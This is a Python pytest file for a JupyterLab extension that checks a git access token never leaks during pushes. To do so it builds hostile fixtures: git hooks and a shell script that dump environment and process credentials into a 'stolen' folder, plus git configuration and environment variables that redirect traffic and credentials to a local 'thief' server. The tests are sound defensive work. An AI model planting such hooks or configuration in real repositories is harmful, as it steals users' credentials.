# ruff: noqa: ASYNC220, ASYNC221 - the plain git calls of these tests are short and meant to block
"""A push from a repository, for a user and to a server that want the token: nobody but the right host ever has it."""

from __future__ import annotations

import asyncio
import base64
import contextlib
import logging
import os
import signal
import stat
import subprocess
import sys
import threading
import time
from collections.abc import Callable, Iterator
from pathlib import Path

import psutil
import pytest
from tests.forge.githttp import GitHttp
from tests.forge.pushing import BRANCH, NAME, TOKEN, Source, Study, copy_of, plain, publisher, study_of, there

from jupyterlab_postdoc import secrets
from jupyterlab_postdoc.errors import PostdocError
from jupyterlab_postdoc.forge.askpass import offered
from jupyterlab_postdoc.forge.publisher import Destination

REPOSITORY = Path(__file__).parents[2]
FORMS = [form.encode() for form in secrets.forms(TOKEN)] + [base64.b64encode(f"x-access-token:{TOKEN}".encode())]


@pytest.fixture
def server(tmp_path: Path) -> Iterator[GitHttp]:
    with GitHttp(tmp_path, TOKEN, auto_create=True) as server:
        yield server


class Spy:
    """Reads the arguments and the environment of every other process of ours, over and over, and all files below a
    folder at the end.
    """

    def __init__(self) -> None:
        self.leaks: set[str] = set()
        self.gits: set[str] = set()
        self._stop = threading.Event()
        self._thread = threading.Thread(target=self._watch, daemon=True)

    def __enter__(self) -> Spy:
        self._thread.start()
        return self

    def __exit__(self, *_: object) -> None:
        self._stop.set()
        self._thread.join()

    def _watch(self) -> None:
        while not self._stop.is_set():
            for process in psutil.Process().children(recursive=True):
                for what in ("cmdline", "environ"):
                    try:
                        content = Path(f"/proc/{process.pid}/{what}").read_bytes()
                    except OSError:
                        continue
                    if what == "cmdline" and content.startswith((b"git", b"/usr/lib/git")):
                        self.gits.add(content.split(b"\0")[1].decode())
                    if any(form in content for form in FORMS):
                        self.leaks.add(f"{what} of {content[:80]!r}")


def files_with_token(*folders: Path) -> list[str]:
    """Files come and go while git works; os.walk passes over a folder that is gone."""
    found = []
    for folder in folders:
        for where, _, names in os.walk(folder):
            for name in names:
                path = Path(where, name)
                try:
                    content = path.read_bytes() if stat.S_ISREG(path.lstat().st_mode) else b""
                except FileNotFoundError:
                    continue
                if any(form in content for form in FORMS):
                    found.append(str(path))
    return found


async def hostile(tmp_path: Path, server: GitHttp, thief: GitHttp) -> Study:
    """A checkout that tries every way to get at a push."""
    study = await study_of(tmp_path / "study")
    git_dir, stolen = study.root / ".git", tmp_path / "stolen"
    stolen.mkdir()
    grab = f"#!/bin/sh\n(env; cat /proc/$PPID/environ /proc/$PPID/cmdline) > {stolen}/$$-$(basename $0) 2>&1\n"
    tool = tmp_path / "tool"
    tool.write_text(grab)
    tool.chmod(0o755)
    (git_dir / "hooks").mkdir(exist_ok=True)
    for hook in ("pre-push", "reference-transaction", "post-update", "pre-auto-gc", "post-checkout"):
        (git_dir / "hooks" / hook).write_text(grab)
        (git_dir / "hooks" / hook).chmod(0o755)
    evil = f"""
[core]
    hooksPath = {git_dir}/hooks
    sshCommand = {tool}
    askPass = {tool}
    fsmonitor = {tool}
    gitProxy = {tool}
[credential]
    helper = "!{tool}"
    helper = store --file {stolen}/credentials
[http]
    proxy = {thief.url}
    extraHeader = X-Stolen: yes
    followRedirects = true
    sslVerify = false
[url "{thief.url}/"]
    insteadOf = {server.url}/
    pushInsteadOf = {server.url}/
    insteadOf = file://
    insteadOf = {tmp_path}/
[include]
    path = {tmp_path}/more.config
[includeIf "gitdir:/"]
    path = {tmp_path}/more.config
[remote "origin"]
    url = {thief.url}/a/b.git
    receivepack = {tool}
    uploadpack = {tool}
[uploadpack]
    packObjectsHook = {tool}
[trace2]
    eventTarget = {stolen}/trace2
"""
    (tmp_path / "more.config").write_text(f"[credential]\n\thelper = {tool}\n")
    with (git_dir / "config").open("a") as config:
        config.write(evil)
    return study


def hostile_home(tmp_path: Path, monkeypatch: pytest.MonkeyPatch, thief: GitHttp) -> None:
    """A user whose own settings keep and show everything."""
    home, stolen = tmp_path / "home", tmp_path / "stolen"
    home.mkdir()
    (home / ".gitconfig").write_text(
        f"[credential]\n\thelper = store\n[http]\n\tproxy = {thief.url}\n"
        f"[core]\n\thooksPath = {tmp_path}/study/.git/hooks\n"
        f'[trace2]\n\teventTarget = {stolen}/trace2-user\n[includeIf "gitdir:/"]\n\tpath = {tmp_path}/more.config\n'
    )
    (home / ".netrc").write_text("default login thief password thief-password\n")
    for name, value in {
        "HOME": str(home),
        "XDG_CONFIG_HOME": str(home),
        "GIT_CONFIG_GLOBAL": str(home / ".gitconfig"),
        "GIT_CONFIG_SYSTEM": str(home / ".gitconfig"),
        "GIT_CONFIG_PARAMETERS": "'credential.helper=store'",
        "GIT_ASKPASS": str(tmp_path / "tool"),
        "SSH_ASKPASS": str(tmp_path / "tool"),
        "GIT_TRACE": str(stolen / "trace"),
        "GIT_TRACE_CURL": str(stolen / "trace-curl"),
        "GIT_TRACE_REDACT": "0",
        "GIT_CURL_VERBOSE": "1",
        "GIT_TRACE2_EVENT": str(stolen / "trace2-env"),
        "GIT_TEMPLATE_DIR": str(tmp_path / "study" / ".git"),
        "GIT_EXEC_PATH_X": "",
        "http_proxy": thief.url,
        "ALL_PROXY": thief.url,
        "GIT_PROXY_COMMAND": str(tmp_path / "tool"),
    }.items():
        monkeypatch.setenv(name, value)


@pytest.mark.skipif(not sys.platform.startswith("linux"), reason="looks at processes through /proc")
async def test_nobody_else_ever_has_the_token(
    server: GitHttp, tmp_path: Path, monkeypatch: pytest.MonkeyPatch, caplog: pytest.LogCaptureFixture
) -> None:
    caplog.set_level(logging.DEBUG)
    with GitHttp(tmp_path / "thief", auto_create=True) as thief:
        study = await hostile(tmp_path, server, thief)
        hostile_home(tmp_path, monkeypatch, thief)
        server.delay_s = 0.3  # time to look
        sender, to, token = publisher(tmp_path), there(server), Source()
        with Spy() as spy:
            await sender.collect(to.key, study.root, study.tip)
            assert token.asked == 0
            await sender.push_first(to, token, "main", study.shas[0])
            pushing = asyncio.ensure_future(sender.push(to, token, BRANCH, study.tip))
            during = []
            while not pushing.done():
                during += await asyncio.to_thread(files_with_token, tmp_path)
                await asyncio.sleep(0.02)
            await pushing
            await sender.fetch(to, token)
            await sender.checkout(to, tmp_path / "checkout", branch="agent/x/1", base="main")
            assert (await _code(sender.push(to, Source("wrong-token-12345"), "b", study.tip))) == "github_auth"
        assert server.branches(NAME) == {"main": study.shas[0], BRANCH: study.tip}
        assert {"push", "remote-http"} <= spy.gits
        assert not spy.leaks
        assert not during
        assert not files_with_token(tmp_path)
        assert not list((tmp_path / "stolen").iterdir())  # no program of theirs ran at all
        assert not thief.requests
        assert not (tmp_path / "home" / ".git-credentials").exists()
        assert not any(form.decode() in caplog.text for form in FORMS)
        assert not [asked for asked in server.requests if "thief" in asked.user]


async def _code(what: object) -> str:
    with pytest.raises(PostdocError) as caught:
        await what  # type: ignore[misc]
    assert TOKEN not in repr(caught.value.as_dict())
    return caught.value.code


async def test_a_tampered_copy_does_not_redirect_the_token(server: GitHttp, tmp_path: Path) -> None:
    """Even when the server's own copy is changed between two calls, and even if git then asks for another host."""
    study, sender, to = await study_of(tmp_path / "study"), publisher(tmp_path), there(server)
    await sender.collect(to.key, study.root, study.tip)
    with GitHttp(tmp_path / "thief", "other-token", auto_create=True) as thief:
        bare = copy_of(tmp_path, to)
        (bare / "hooks").mkdir()
        (bare / "hooks" / "pre-push").write_text(f"#!/bin/sh\ntouch {tmp_path}/ran\n")
        (bare / "hooks" / "pre-push").chmod(0o755)
        (bare / "config").write_text(
            f'[core]\n\tbare = true\n[url "{thief.url}/"]\n\tinsteadOf = {server.url}/\n'
            "[credential]\n\thelper = store\n"
        )
        (tmp_path / "data" / "publish" / "askpass").write_text(f"#!/bin/sh\ntouch {tmp_path}/ran\n")
        await sender.push(to, Source(), BRANCH, study.tip)
        assert not thief.requests
        assert not (tmp_path / "ran").exists()


@pytest.mark.parametrize("how", ["redirect", "instead"])
async def test_another_host_that_asks_gets_nothing(server: GitHttp, tmp_path: Path, how: str) -> None:
    study, sender, to = await study_of(tmp_path / "study"), publisher(tmp_path), there(server)
    await sender.collect(to.key, study.root, study.tip)
    with GitHttp(tmp_path / "thief", "other-token", auto_create=True) as thief:
        if how == "redirect":
            server.redirect_to = thief.url
            assert await _code(sender.push(to, Source(), BRANCH, study.tip)) == "push_rejected"
            assert not thief.requests
            return
        # What insteadOf would do: git asks the script in the name of the other host.
        with offered(tmp_path / "private", to.url, TOKEN) as offer:
            env = {"PATH": os.environ["PATH"], "GIT_TERMINAL_PROMPT": "0", "HOME": os.devnull, **offer.env}
            said = subprocess.run(
                ["git", "ls-remote", thief.git_url(NAME)],
                env=env,
                pass_fds=offer.pass_fds,
                capture_output=True,
                check=False,
            )
            assert said.returncode == 128
            assert thief.requests
            assert not any(asked.authorization for asked in thief.requests)
            said = subprocess.run(
                ["git", "ls-remote", to.url], env=env, pass_fds=offer.pass_fds, capture_output=True, check=False
            )
            assert said.returncode == 0, said.stderr
            assert not any(form in said.stdout + said.stderr for form in FORMS)


def test_the_script_answers_two_questions_of_one_host(tmp_path: Path) -> None:
    url = "https://github.com/ana/owls.git"

    def ask(prompt: str) -> tuple[int, str]:
        with offered(tmp_path, url, TOKEN) as offer:
            env = {"PATH": os.environ["PATH"], **offer.env}
            argv = [offer.env["GIT_ASKPASS"], prompt]
            done = subprocess.run(argv, env=env, pass_fds=offer.pass_fds, capture_output=True, text=True, check=False)
            return done.returncode, done.stdout

    assert ask("Username for 'https://github.com': ") == (0, "x-access-token\n")
    assert ask("Password for 'https://x-access-token@github.com': ") == (0, f"{TOKEN}\n")
    for host in (
        "github.com.evil.org", "evil.org", "github.com@evil.org", "github.com:443", "GITHUB.COM", "x@github.com",
        "github.co", "github.com'x", "*", "github.com/x", "a.github.com", "github-com",
    ):  # fmt: skip
        for prompt in (f"Password for 'https://x-access-token@{host}': ", f"Username for 'https://{host}': "):
            assert ask(prompt) == (1, ""), prompt
    for prompt in (
        "",
        "*",
        "Password: ",
        "Password for 'http://x-access-token@github.com': ",
        "Enter passphrase for key",
    ):
        assert ask(prompt) == (1, "")
    # The token is given once.
    with offered(tmp_path, url, TOKEN) as offer:
        env = {"PATH": os.environ["PATH"], **offer.env}
        argv = [offer.env["GIT_ASKPASS"], "Password for 'https://x-access-token@github.com': "]
        given = [subprocess.run(argv, env=env, pass_fds=offer.pass_fds, capture_output=True).stdout for _ in range(2)]
    assert given == [f"{TOKEN}\n".encode(), b""]
    assert not any(TOKEN in value for value in offer.env.values())
    assert not files_with_token(tmp_path)
    with pytest.raises(OSError, match="Bad file descriptor"):
        os.fstat(offer.pass_fds[0])
    with pytest.raises(ValueError, match="not a token"), offered(tmp_path, url, "a\nb"):
        pass


async def test_a_token_that_a_checkout_knows_is_no_one_elses(server: GitHttp, tmp_path: Path) -> None:
    """A remote that wants the token under a name of its own, on a port of its own, is another host."""
    sender = publisher(tmp_path)
    for url, host in ((server.git_url(NAME), "127.0.0.1:1"), (server.git_url(NAME), "127.0.0.1")):
        assert await _code(sender.heads(Destination("h/a/b", url, host), Source())) == "forbidden"
    assert not server.requests


def gits_of(place: Path, verb: str = "") -> list[psutil.Process]:
    """The git programs that work in ``place`` (and do ``verb``)."""
    found = []
    for process in psutil.process_iter():
        with contextlib.suppress(psutil.Error, OSError):
            ours = process.name().startswith(("git", "sh")) and process.cwd().startswith(str(place))
            if ours and process.status() != psutil.STATUS_ZOMBIE and (not verb or verb in process.cmdline()[1:2]):
                found.append(process)
    return found


async def until(what: Callable[[], object], seconds: float = 10.0) -> None:
    deadline = time.monotonic() + seconds
    while not what():
        assert time.monotonic() < deadline
        await asyncio.sleep(0.02)


async def test_a_cancelled_push_leaves_no_process(server: GitHttp, tmp_path: Path) -> None:
    study, sender, to = await study_of(tmp_path / "study"), publisher(tmp_path), there(server)
    await sender.collect(to.key, study.root, study.tip)
    server.delay_s = 5.0
    pushing = asyncio.ensure_future(sender.push(to, Source(), BRANCH, study.tip))
    place = tmp_path / "data" / "publish"
    await until(server.pushes)  # it has sent all, and waits for the answer
    assert len(gits_of(place)) > 2
    pushing.cancel()
    with pytest.raises(asyncio.CancelledError):
        await pushing
    await until(lambda: not gits_of(place), 2.0)
    assert not files_with_token(tmp_path)
    server.delay_s = 0.0
    assert (await sender.push(to, Source(), BRANCH, study.tip)).after == study.tip


async def test_a_server_that_never_answers(server: GitHttp, tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    study, sender, to = await study_of(tmp_path / "study"), publisher(tmp_path), there(server)
    await sender.collect(to.key, study.root, study.tip)
    server.delay_s = 5.0
    monkeypatch.setattr("jupyterlab_postdoc.forge.publisher.PUSH_S", (0.5, 0.5))
    start = time.monotonic()
    with pytest.raises(PostdocError) as caught:
        await sender.push(to, Source(), BRANCH, study.tip)
    assert (caught.value.code, caught.value.retryable) == ("github_unreachable", True)
    assert time.monotonic() - start < 4
    await until(lambda: not gits_of(tmp_path / "data" / "publish"), 2.0)


KILLED = """
import asyncio, sys
from pathlib import Path
sys.path.insert(0, {repository!r})
from tests.forge.pushing import BRANCH, Source, publisher
from jupyterlab_postdoc.forge.publisher import Destination

async def main():
    to = Destination({key!r}, {url!r}, {host!r})
    await publisher(Path({folder!r})).{call}

asyncio.run(main())
"""


@pytest.mark.parametrize("call", ["push", "fetch", "collect"])
async def test_a_killed_server_leaves_nothing_behind(server: GitHttp, tmp_path: Path, call: str) -> None:
    study, sender, to = await study_of(tmp_path / "study"), publisher(tmp_path), there(server)
    await study.step({"large.bin": os.urandom(4 << 20)})
    if call != "collect":
        await sender.collect(to.key, study.root, study.tip)
    if call == "fetch":
        plain(study.root, "push", "-q", str(server.create(NAME)), "main")
    server.delay_s = 1.0
    code = {
        "push": f"push(to, Source(), BRANCH, {study.tip!r})",
        "fetch": "fetch(to, Source())",
        "collect": f"collect(to.key, Path({str(study.root)!r}), {study.tip!r})",
    }[call]
    script = KILLED.format(
        repository=str(REPOSITORY), key=to.key, url=to.url, host=to.host, folder=str(tmp_path), call=code
    )
    place = tmp_path / "data" / "publish"
    for wait in (0.0, 0.05, 0.2):
        process = subprocess.Popen([sys.executable, "-c", script], start_new_session=True)
        try:
            await until(lambda: gits_of(place, "push" if call == "push" else "fetch"))
            await asyncio.sleep(wait)
        finally:
            process.send_signal(signal.SIGKILL)
            process.wait()
    assert not files_with_token(tmp_path)
    server.delay_s = 0.0
    if call == "push":
        await sender.push(to, Source(), BRANCH, study.tip)
        assert server.branches(NAME) == {BRANCH: study.tip}
    elif call == "fetch":
        assert await sender.fetch(to, Source()) == {"main": study.tip}
    else:
        await sender.collect(to.key, study.root, study.tip)
        assert await sender.ahead(to.key, study.shas[0], study.tip) == 3
    await until(lambda: not gits_of(place), 15.0)
